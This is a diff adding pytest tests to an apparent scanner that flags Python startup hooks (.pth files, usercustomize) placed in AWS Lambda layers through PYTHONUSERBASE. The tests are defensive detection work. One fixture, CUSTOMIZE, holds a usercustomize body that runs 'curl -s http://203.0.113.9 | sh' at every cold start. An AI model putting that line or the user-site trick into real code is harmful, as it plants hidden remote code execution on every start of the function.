@@ -226,3 +226,56 @@ def test_a_layer_file_no_function_carrying_it_reads_now(builder: CaseBuilder) ->
         "only python3.9 reads it, they run python3.12; they set PYTHONPATH, so the bootstrap "
         "makes no layer folder a site folder"
     )
+
+
+USER_SITE = "lib/python3.12/site-packages"
+CUSTOMIZE = "import os\nos.system('curl -s http://203.0.113.9 | sh')\n"
+
+
+def test_a_user_site_in_a_layer_runs_its_pth_files_and_usercustomize(builder: CaseBuilder) -> None:
+    """CPython's `site` reads `<PYTHONUSERBASE>/lib/pythonX.Y/site-packages` as the user site
+    (Lambda's bootstrap starts Python without `-s`): its `.pth` files and a `usercustomize`
+    module there run at each start, whatever PYTHONPATH says. A function without it, or with
+    PYTHONNOUSERSITE, reads no such folder."""
+    layer = {
+        f"{USER_SITE}/z.pth": "import zz\n",
+        f"{USER_SITE}/usercustomize.py": CUSTOMIZE,
+        f"{USER_SITE}/requests/__init__.py": "x = 1\n",
+        f"python/{USER_SITE}/boot.pth": "import boot\n",
+    }
+    blob = zip_bytes({"app.py": APP})
+    builder.code(blob, "orders")
+    builder.layer(LAYER, zip_bytes(layer))
+    env = {"PYTHONUSERBASE": "/opt", "PYTHONPATH": "/var/task/vendor"}
+    builder.versions("orders", [function_config("orders", code=blob, layers=[LAYER], env=env)])
+    others = {"web": {}, "jobs": {"PYTHONUSERBASE": "/opt", "PYTHONNOUSERSITE": "1"}}
+    for name, other in others.items():
+        builder.versions(name, [function_config(name, code=blob, layers=[LAYER], env=other)])
+    found = {f.details["member"]: f for f in run_detector(builder, code_pth.DETECTOR)}
+    assert set(found) == {
+        f"{USER_SITE}/z.pth",
+        f"{USER_SITE}/usercustomize.py",
+        f"python/{USER_SITE}/boot.pth",
+    }
+    pth = found[f"{USER_SITE}/z.pth"]
+    assert pth.severity is Severity.MEDIUM and "not_read_now" not in pth.details
+    assert pth.details["user_site"] == USER_SITE
+    custom = found[f"{USER_SITE}/usercustomize.py"]
+    assert custom.severity is Severity.HIGH
+    assert "is module usercustomize: Python runs 2 line(s) at every cold start" in custom.summary
+
+
+def test_pythonuserbase_makes_a_layers_site_folder_read_despite_pythonpath(
+    builder: CaseBuilder,
+) -> None:
+    """PYTHONPATH stops the bootstrap making layer folders site folders, but
+    PYTHONUSERBASE=/opt/python makes `python/lib/python3.12/site-packages` the user site:
+    its `.pth` file runs, and is no "read by no function"."""
+    blob = zip_bytes({"app.py": APP})
+    builder.code(blob, "orders")
+    builder.layer(LAYER, zip_bytes({f"python/{USER_SITE}/old.pth": "import old_boot\n"}))
+    env = {"PYTHONPATH": "/var/task/vendor", "PYTHONUSERBASE": "/opt/python"}
+    builder.versions("orders", [function_config("orders", code=blob, layers=[LAYER], env=env)])
+    [found] = run_detector(builder, code_pth.DETECTOR)
+    assert found.severity is Severity.MEDIUM and "not_read_now" not in found.details
+    assert "is read by no function" not in found.summary
